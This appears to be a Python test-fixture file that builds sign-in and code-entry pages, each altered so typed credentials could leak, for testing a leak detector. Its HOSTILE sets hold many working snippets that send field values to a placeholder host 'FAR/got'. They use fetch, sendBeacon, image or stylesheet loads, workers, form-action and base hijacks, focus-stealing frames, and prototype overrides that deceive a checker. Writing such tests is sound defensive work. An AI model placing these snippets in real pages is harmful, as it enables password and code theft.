"""Sign-in documents on the exact address of a site, each with one thing that is not as it should be.

In a document FORM stands for the form, NEAR and FAR for the second site (the same host at another port, another host).
"""

from __future__ import annotations

from collections.abc import Callable

LOGIN = (
    '<form id=f method=post action="/session"><label>Username <input name=u></label>'
    "<label>Password <input name=p type=password></label><button>Log in</button></form>"
)
CODE = (
    '<form id=f method=post action="/code"><label>Code <input name=c></label><button>Continue</button></form>'
)
BUTTONS = ("<button>Log in</button>", "<button>Continue</button>")
FIELDS = "const fields = [...document.querySelectorAll('input:not([data-x])')], form = document.querySelector('#f'), last = fields.at(-1);"


def script(text: str) -> Callable[[str], str]:
    """The form, and a script after it that knows `fields`, `form` and `last`."""
    return lambda form: f"{form}<iframe name=pit src='about:blank'></iframe><script>{FIELDS}\n{text}</script>"


def on(event: str, text: str) -> Callable[[str], str]:
    """The form, and what happens on an event of any of its fields, `e`."""
    return script(f"for (const one of fields) one.addEventListener('{event}', (e) => {{ {text} }});")


def swap(*pairs: tuple[str, str]) -> Callable[[str], str]:
    """The form with other words in it, and a frame that a form may be sent into."""

    def swapped(form: str) -> str:
        before = form
        for old, new in pairs:
            form = form.replace(old, new)
        assert form != before
        return f"{form}<iframe name=pit src='about:blank'></iframe>"

    return swapped


def button(new: str) -> Callable[[str], str]:
    """The form with something in its button's tag."""
    return swap(("<button>", f"<button {new}>"))


def around(before: str, after: str = "") -> Callable[[str], str]:
    """The form between two pieces."""
    return lambda form: before + form + after


# Whatever a mere frame does, or markup alone: nothing may be typed that then leaves.
FRAMES = {
    "a frame of another site wants the focus": around("", "<iframe src='FAR/thief'></iframe>"),
    "a frame of another port wants the focus": around("", "<iframe src='NEAR/thief'></iframe>"),
    "a frame without an address wants the focus": around(
        "", "<iframe srcdoc='<input id=i><script>setInterval(() => i.focus(), 5)</script>'></iframe>"
    ),
    "a frame in a frame wants the focus": around(
        "", "<iframe srcdoc=\"<iframe src='FAR/thief'></iframe>\"></iframe>"
    ),
    "a frame that is written in wants the focus": around("", "<iframe src='FAR/edit'></iframe>"),
    "a frame asks for the focus now and then": around("", "<iframe src='FAR/slow'></iframe>"),
    "an object wants the focus": around("", "<object data='FAR/thief' type=text/html></object>"),
    "an embed wants the focus": around("", "<embed src='FAR/thief' type=text/html>"),
    "a frame before the form wants the focus": around("<iframe src='FAR/thief'></iframe>"),
    "an unseen frame wants the focus": around(
        "", "<iframe style='width:1px;height:1px;opacity:0' src='FAR/thief'></iframe>"
    ),
    "frames by the dozen want the focus": around("", "<iframe src='FAR/thief'></iframe>" * 6),
    "a frame lies over everything": around(
        "",
        "<iframe style='position:fixed;inset:0;width:100%;height:100%;opacity:.01' src='FAR/calm'></iframe>",
    ),
    "a frame comes with the focus": on(
        "focus", "const f = document.createElement('iframe'); f.src = 'FAR/thief'; document.body.append(f);"
    ),
    "a frame comes with the first letter": on(
        "input", "const f = document.createElement('iframe'); f.src = 'FAR/thief'; document.body.append(f);"
    ),
    "the page gives a frame the focus for its own": on("focus", "document.querySelector('iframe').focus();"),
    "the page gives a frame the focus at the first letter": on(
        "input", "document.querySelector('iframe').focus();"
    ),
    "the page gives a frame the focus again and again": around(
        "", "<iframe id=t src='FAR/thief'></iframe><script>setInterval(() => t.focus(), 3)</script>"
    ),
    "a frame in a shadow wants the focus": around(
        "",
        "<div id=h></div><script>h.attachShadow({mode: 'closed'}).innerHTML = \"<iframe src='FAR/thief'></iframe>\"</script>",
    ),
}
MARKUP = {
    "a form attribute leads to a form of another site": swap(
        ("<input", "<input form=g"), ("</form>", "</form><form id=g method=post action='FAR/got' target=pit></form>")
    ),
    "field and button belong to a form of another site": swap(
        ("<input", "<input form=g"), ("<button", "<button form=g"),
        ("</form>", "</form><form id=g method=post action='FAR/got' target=pit></form>"),
    ),
    "only the button belongs to another form": swap(
        ("<button", "<button form=g"), ("</form>", "</form><form id=g method=post action='/other'></form>")
    ),
    "the base is another site": swap(("<form", "<base href='FAR/'><form"), ('action="/', 'action="')),
    "the base is another site, the action is not": around("<base href='FAR/'>"),
    "the base is another site, for the button": swap(("<form", "<base href='FAR/'><form"), ("<button", "<button formaction=got")),
    "the base names another target": around("<base target=pit>"),
    "the base names a new window": around("<base target=_blank>"),
    "the action is another site": swap(('action="/', 'action="FAR/')),
    "the action is another site, into a frame": swap(('action="/', 'target=pit action="FAR/')),
    "the action is another port": swap(('action="/', 'action="NEAR/')),
    "the action has no scheme": swap(('action="/', 'action="//localhost:PORT/')),
    "the action has a user": swap(('action="/', 'action="http://HOST@localhost:PORT/')),
    "the action has backslashes": swap(('action="/', 'action="\\\\localhost:PORT/')),
    "the action has tabs": swap(('action="/', 'action="ht&#9;tp://localhost:PORT/')),
    "the action is a script": swap(('action="/', 'action="javascript:location=`FAR/got?`+document.forms[0][0].value//')),
    "the action is a letter": swap(('action="/', 'action="mailto:evil@example.org?')),
    "the action is data": swap(('action="/', 'action="data:text/html,')),
    "the form leads into a frame": swap(("<form", "<form target=pit")),
    "the form leads into a new window": swap(("<form", "<form target=_blank")),
    "the form leads into a window by name": swap(("<form", "<form target=evil")),
    "the form is sent in its address": swap(("method=post", "method=get")),
    "the form is sent in its address by default": swap(("method=post ", "")),
    "the form is a dialog's": swap(("method=post", "method=dialog")),
    "the button leads to another site": button("formaction='FAR/got'"),
    "the button leads to another site, into a frame": button("formaction='FAR/got' formtarget=pit"),
    "the button leads into a frame": button("formtarget=pit"),
    "the button leads into a new window": button("formtarget=_blank"),
    "the button sends in the address": button("formmethod=get"),
    "the button's own action is a script": button("formaction='javascript:alert(1)'"),
    "an image button beside it": swap(
        *((old, f"<input data-x type=image alt='{old[8:-9]}' formaction='FAR/got'>{old}") for old in BUTTONS)
    ),
    "names hide the form's properties": swap(
        ("method=post", "method=post target=pit"), ('action="/', 'action="FAR/'),
        ("</form>", ("<input data-x type=hidden name=action value=/session><input data-x type=hidden name=target>"
         "<input data-x type=hidden name=getAttribute><input data-x type=hidden name=method value=post></form>")),
    ),
    "names hide the document's properties": around(
        "<base href='FAR/'><img name=baseURI><form name=activeElement></form><form name=querySelector></form>"
        "<form name=hasFocus></form><img name=location><form name=elementFromPoint></form>"
    ),
    "names hide our own": swap(
        ('action="/', 'action="FAR/'), ("<form", "<p id=__hand></p><p id=__auditor></p><form name=__hand")
    ),
    "the form stands in a shadow and leads away": lambda form: (
        "<div id=h></div><script>h.attachShadow({mode: 'open'}).innerHTML = `"
        + form.replace('action="/', 'action="FAR/') + "`</script>"
    ),
    "the form stands in a closed shadow and leads away": lambda form: (
        "<div id=h></div><script>h.attachShadow({mode: 'closed'}).innerHTML = `"
        + form.replace('action="/', 'action="FAR/') + "`</script>"
    ),
}  # fmt: skip
STATES = {
    "there are two of each": lambda form: form + form,
    "the words of the fields are another's": swap(("Username", "Your name"), ("Code", "Your code")),
    "the fields are of the other kind": swap(
        ("<input name=u", "<input type=password name=u"), ("<input name=c", "<input type=email name=c")
    ),
    "the password is shown": swap(
        ("type=password", "type=text"), ("<input name=c", "<input type=url name=c")
    ),
    "the fields are no input": swap(
        ("<input name=u>", "<textarea name=u></textarea>"), ("<input name=c>", "<textarea name=c></textarea>")
    ),
    "the fields are editable text": swap(
        ("<input name=u>", "<b contenteditable role=textbox aria-label=Username>x</b>"),
        ("<input name=c>", "<b contenteditable role=textbox aria-label=Code>x</b>"),
    ),
    "nobody can see the fields": around("<style>input { opacity: 0 }</style>"),
    "the fields have no size": around("<style>input { width: 0; height: 0; padding: 0; border: 0 }</style>"),
    "the fields are off": swap(("<input ", "<input disabled ")),
    "the fields are only read": swap(("<input ", "<input readonly ")),
    "the form is inert": swap(("<form", "<form inert")),
    "a dialog lies over the form": around(
        "", "<dialog id=d><p>Wait</p></dialog><script>d.showModal()</script>"
    ),
    "the form is in a frame": lambda form: f"<iframe srcdoc='{form}'></iframe>",
    "the form is in a frame of the same site": lambda form: "<iframe src='/framed'></iframe>",
}
SWAPS = {
    "the field is replaced at the focus": on("focus", "e.target.replaceWith(e.target.cloneNode());"),
    "the field is replaced at the first letter": on("input", "e.target.replaceWith(e.target.cloneNode(true));"),
    "the field is taken away at the first letter": on("input", "e.target.remove();"),
    "the field becomes another kind": on("focus", "e.target.type = e.target.type === 'text' ? 'password' : 'text';"),
    "the field becomes another kind at the first letter": on("input", "e.target.type = 'search';"),
    "the field becomes another's": on("focus", "e.target.name = 'q';"),
    "the field becomes another form's": on(
        "focus", "document.body.insertAdjacentHTML('beforeend', '<form id=g method=post action=FAR/got target=pit></form>');"
        "e.target.setAttribute('form', 'g');"
    ),
    "the field is moved into another form": on(
        "focus", "const g = document.createElement('form'); g.action = 'FAR/got'; document.body.append(g); g.append(e.target);"
        "e.target.focus();"
    ),
    "the form turns to another site at the focus": on("focus", "form.action = 'FAR/got'; form.target = 'pit';"),
    "the form turns to another site at the first letter": on("input", "form.action = 'FAR/got'; form.target = 'pit';"),
    "the form turns into a frame at the first letter": on("input", "form.target = 'pit';"),
    "the base turns to another site at the first letter": on(
        "input", "document.head.insertAdjacentHTML('beforeend', '<base href=FAR/>');"
    ),
    "the base turns into a frame at the press": script(
        "addEventListener('mousedown', () => document.head.insertAdjacentHTML('beforeend', '<base target=pit>'), true);"
    ),
    "the form turns to another site at the press": script(
        "addEventListener('mousedown', () => { form.action = 'FAR/got'; form.target = 'pit'; }, true);"
    ),
    "the form turns to another site when it is sent": script(
        "form.addEventListener('submit', () => { form.action = 'FAR/got'; form.target = 'pit'; });"
    ),
    "the button turns to another site under the pointer": script(
        "const b = form.querySelector('button'); b.onmouseover = () => { b.formAction = 'FAR/got'; b.formTarget = 'pit'; };"
    ),
    "the button turns into another form's under the pointer": script(
        "document.body.insertAdjacentHTML('beforeend', '<form id=g method=post action=FAR/got></form>');"
        "form.querySelector('button').onmouseover = (e) => e.target.setAttribute('form', 'g');"
    ),
    "another field takes the focus": script(
        "const x = document.createElement('input'); x.dataset.x = 1; document.body.append(x);"
        "x.oninput = () => fetch('FAR/got', {method: 'POST', body: x.value}); setInterval(() => x.focus(), 5);"
    ),
    "the page takes the focus away": on("focus", "e.target.blur();"),
    "the page takes the focus away at the first letter": on("input", "e.target.blur();"),
    "the page writes something else": on("input", "e.target.value += 'x';"),
    "the page empties the field": on("input", "e.target.value = '';"),
    "the page writes into the field before it": script("setInterval(() => { if (last.value) fields[0].value = 'x'; }, 1);"),
    "the words change with the focus": on("focus", "e.target.closest('label').firstChild.data = 'Search ';"),
    "the words change at the first letter": on("input", "e.target.closest('label').firstChild.data = 'Search ';"),
    "a second field by the same name comes": on("input", "e.target.closest('label').after(e.target.closest('label').cloneNode(true));"),
    "the page asks something at the focus": on("focus", "alert('x');"),
    "the page asks something at the first letter": on("input", "prompt('x');"),
    "a dialog opens at the first letter": script(
        "const d = document.createElement('dialog'); document.body.append(d);"
        "for (const one of fields) one.addEventListener('input', () => d.open || d.showModal());"
    ),
    "the page goes elsewhere at the first letter": on("input", "location.href = 'FAR/got?' + e.target.value;"),
    "the page goes to its own address at the first letter": on("input", "location.href = '/x?' + e.target.value;"),
    "another form is sent instead": script(
        "document.body.insertAdjacentHTML('beforeend', '<form id=g method=post action=FAR/got target=pit><input data-x name=z></form>');"
        "form.addEventListener('submit', (e) => { e.preventDefault(); const g = document.querySelector('#g');"
        "g.z.value = last.value; g.requestSubmit(); });"
    ),
}  # fmt: skip
TRICKS = (
    "Element.prototype.closest = () => null; Element.prototype.getAttribute = () => '/session';"
    "Object.defineProperty(Node.prototype, 'baseURI', {get: () => location.href});"
    "Object.defineProperty(HTMLInputElement.prototype, 'form', {get: () => null});"
    "Object.defineProperty(HTMLButtonElement.prototype, 'form', {get: () => null});"
    "Object.defineProperty(Document.prototype, 'activeElement', {get: () => last});"
    "Document.prototype.hasFocus = () => true; URL = function () { return location; };"
    "EventTarget.prototype.addEventListener = () => {}; MutationObserver = class { observe() {} };"
)
SCRIPTS = {
    "a script lies about the page": lambda form: script(TRICKS)(form.replace('action="/', 'target=pit action="FAR/')),
    "a script asks": on("input", "fetch('FAR/got?' + e.target.value, {mode: 'no-cors'});"),
    "a script sends": on("input", "fetch('FAR/got', {method: 'POST', mode: 'no-cors', body: e.target.value});"),
    "a script sends by the older way": on(
        "input", "const x = new XMLHttpRequest(); x.open('POST', 'FAR/got'); x.send(JSON.stringify({v: e.target.value}));"
    ),
    "a script draws a picture": on("input", "new Image().src = 'FAR/got?v=' + encodeURIComponent(e.target.value);"),
    "a script rings a bell": on("input", "navigator.sendBeacon('FAR/got', e.target.value);"),
    "a script sends it in base64": on("input", "fetch('FAR/got?' + btoa('v=' + e.target.value), {mode: 'no-cors'});"),
    "a script sends it in a frame's address": on("input", "document.querySelector('iframe').src = 'FAR/got?' + e.target.value;"),
    "a script tells a frame": lambda form: on(
        "input", "document.querySelector('[name=ears]').contentWindow.postMessage(e.target.value, '*');"
    )(form + "<iframe name=ears src='FAR/ears'></iframe>"),
    "a script sends the form into a frame": on("input", "form.action = 'FAR/got'; form.target = 'pit'; form.submit();"),
    "a script sends the form into a new window": on("input", "form.action = 'FAR/got'; form.target = '_blank'; form.submit();"),
    "a script asks for a style": on(
        "input", "document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='FAR/got?${e.target.value}'>`);"
    ),
    "a script asks for a script": on(
        "input", "const s = document.createElement('script'); s.src = 'FAR/got?' + e.target.value; document.head.append(s);"
    ),
    "a style draws the value": on(
        "input", "document.body.style.backgroundImage = `url(FAR/got?${e.target.value})`;"
    ),
    "a worker sends": script(
        "const w = new Worker(URL.createObjectURL(new Blob([\"onmessage = (e) => fetch('FAR/got', {method: 'POST', mode: 'no-cors', body: e.data})\"])));"
        "for (const one of fields) one.addEventListener('input', (e) => w.postMessage(e.target.value));"
    ),
    "a script sends it when the form is sent": script(
        "form.addEventListener('submit', () => fetch('FAR/got', {method: 'POST', keepalive: true, mode: 'no-cors', body: last.value}));"
    ),
    "a script sends it when the page goes": script(
        "addEventListener('pagehide', () => navigator.sendBeacon('FAR/got', last.value));"
    ),
}  # fmt: skip
# Thought of when all of the above held.
LATER = {
    "the page sends on what is sent to it": swap(
        ('action="/session"', 'action="/away"'), ('action="/code"', 'action="/away"')
    ),
    "the base is another site, the action is whole": swap(
        ("<form", "<base href='FAR/'><form"), ('action="/', 'action="http://HOST/')
    ),
    "the target has a blank": swap(("<form", "<form target='_self '")),
    "the method has a blank": swap(("method=post", "method=' post'")),
    "a frame calls itself ours": around("<base target=' _self'>", "<iframe name=' _self'></iframe>"),
    "the field goes into a frame at the focus": on("focus", "frames.pit.document.body.append(e.target);"),
    "the field goes into a frame at the first letter": on(
        "input", "frames.pit.document.body.append(e.target);"
    ),
    "the address changes at the first letter": on("input", "history.pushState(0, 0, '/elsewhere/');"),
    "the form is written anew at the first letter": on("input", "form.outerHTML = form.outerHTML;"),
    "the whole page is written anew at the focus": on(
        "focus", "document.open(); document.write('<p>x'); document.close();"
    ),
    "a shadow takes the form's place": on("focus", "form.parentNode.attachShadow({mode: 'closed'});"),
    "a popover lies over the field with a frame": script(
        "const d = document.createElement('div'); d.popover = 'manual'; d.style = 'inset:0;width:100%;height:100%';"
        "d.innerHTML = \"<iframe src='FAR/calm' style='width:100%;height:100%'></iframe>\"; document.body.append(d); d.showPopover();"
    ),
}
LATER_SCRIPTS = {
    "a script sends by the page's own redirect": on("input", "fetch('/away', {method: 'POST', body: e.target.value});"),
    "a script asks for a stream": on("input", "new EventSource('FAR/got?' + encodeURIComponent(e.target.value));"),
    "a script asks from within a frame": on("input", "frames.pit.fetch('FAR/got?' + e.target.value, {mode: 'no-cors'});"),
    "a script asks for a host by that name": on("input", "new Image().src = 'http://' + e.target.value + '.localhost:PORT/';"),
    "a script sends a file": on(
        "input", "const f = new FormData(); f.append('v', new Blob([e.target.value])); fetch('FAR/got', {method: 'POST', mode: 'no-cors', body: f});"
    ),
    "a script sends it twice encoded": on("input", "fetch('FAR/got?' + encodeURIComponent(encodeURIComponent(e.target.value)), {mode: 'no-cors'});"),
}  # fmt: skip
HOSTILE = FRAMES | MARKUP | STATES | SWAPS | SCRIPTS | LATER | LATER_SCRIPTS

HONEST: dict[str, Callable[[str], str]] = {
    "as it is": around(""),
    "no address in the form": swap(('action="/session"', 'action="/session"  novalidate'), ('action="/code"', 'action="/code" novalidate')),
    "whole address": swap(('action="/', 'action="http://HOST/')),
    "a base of its own": around("<base href='/login/'>"),
    "own target": swap(("<form", "<form target=_self")),
    "own button": button("type=submit formmethod=post formnovalidate"),
    "something stands in the fields": swap(("<input", "<input value=before")),
    "a frame that wants nothing": around("", "<iframe src='FAR/calm'></iframe><iframe src='NEAR/calm'></iframe>"),
    "a field has the focus already": swap(("<input ", "<input autofocus ")),
    "the form has the focus late": script("setTimeout(() => fields[0].focus(), 30);"),
    "labels float": on("focus", "e.target.className = 'up'; e.target.parentNode.style.color = 'red';"),
    "the button wakes when something is typed": script(
        "const b = form.querySelector('button'); b.disabled = true; const wake = () => { b.disabled = !last.value; };"
        "for (const kind of ['input', 'change']) form.addEventListener(kind, wake);"
    ),
    "a script sends the form": script(
        "form.addEventListener('submit', async (e) => { e.preventDefault(); const body = new URLSearchParams(new FormData(form));"
        "await fetch(form.getAttribute('action') + '?by=script', {method: 'POST', body}); location.href = form.dataset.on; });"
    ),
    "no form at all": lambda form: script(
        "document.querySelector('[role=button]').onclick = async () => {"
        "const body = new URLSearchParams(fields.map((one) => [one.name, one.value]));"
        "await fetch(document.querySelector('#f').dataset.to, {method: 'POST', body}); location.href = document.querySelector('#f').dataset.on; };"
    )(form.replace("<form", "<div").replace('action="', 'data-to="').replace("</form>", "</div>")
      .replace("<button>", "<div role=button tabindex=0>").replace("</button>", "</div>")),
    "a field that a script controls": script(
        "const kept = new WeakMap(); const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');"
        "for (const one of fields) { kept.set(one, ''); Object.defineProperty(one, 'value', {get() { return own.get.call(this); },"
        " set(v) { kept.set(one, v); own.set.call(this, v); }});"
        " one.addEventListener('input', () => { if (own.get.call(one) !== kept.get(one)) kept.set(one, own.get.call(one)); });"
        " one.addEventListener('blur', () => own.set.call(one, kept.get(one))); }"
    ),
    "in a shadow": lambda form: f"<div id=h></div><script>h.attachShadow({{mode: 'open'}}).innerHTML = `{form}`</script>",
    "words in the button": swap(("<button>", "<button><span><b></b>"), ("</button>", "</span></button>")),
    "the button paints itself": button("onmouseover='this.className=`hot`' onmousedown='this.style.color=`red`' onclick='this.dataset.sent=1'"),
}  # fmt: skip
